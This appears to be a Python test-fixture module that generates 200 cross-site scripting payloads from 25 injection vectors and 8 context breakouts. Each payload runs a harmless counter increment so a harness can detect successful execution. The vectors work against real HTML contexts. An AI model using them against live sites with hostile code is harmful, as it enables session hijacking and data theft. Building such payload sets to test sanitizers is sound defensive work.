"""Two hundred texts that run a script wherever a page takes them for more than text."""

from __future__ import annotations

import itertools

RUN = "top.ran=(top.ran||0)+1"
"""What every script does; a page that was attacked with success has the number in ``top.ran``."""

BREAKOUTS = ("", '">', "'>", "-->", "</title>", "</textarea></script></style>", "]]>", "&lt;/p&gt;</p>")
"""What closes the place that a page puts a text into: an attribute, a comment, an element."""

VECTORS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT >",
    "<img src=x: onerror={run}>",
    "<img/src='x:'/onerror='{run}'//",
    "<svg onload={run}>",
    "<svg/onload='{run}'/>",
    "<svg><script>{run}</script></svg>",
    "<svg><style><img src=x: onerror={run}></style></svg>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<video><source onerror={run}></video>",
    "<audio src=x: onerror={run}></audio>",
    "<object data=x: onerror={run}></object>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    '<iframe src="javascript:{run}"></iframe>',
    "<style onload={run}></style>",
    "<math><mtext><table><mglyph><style><img src=x: onerror={run}></style></mglyph></table></mtext></math>",
    "<marquee onstart={run}>x</marquee>",
    "<body onload={run}>",
    "<p style=animation-name:x onanimationstart={run}><style>@keyframes x{{}}p{{animation:x 1ms}}</style>",
    "<noscript><p title='</noscript><img src=x: onerror={run}>'>",
    "<template><script>{run}</script></template><img src=x: onerror={run}>",
    '<meta http-equiv=refresh content="0;url=javascript:{run}"><img src=x: onerror={run}>',
)


def payloads() -> list[str]:
    """Return every vector behind every breakout: two hundred."""
    return [breakout + vector.format(run=RUN) for vector, breakout in itertools.product(VECTORS, BREAKOUTS)]
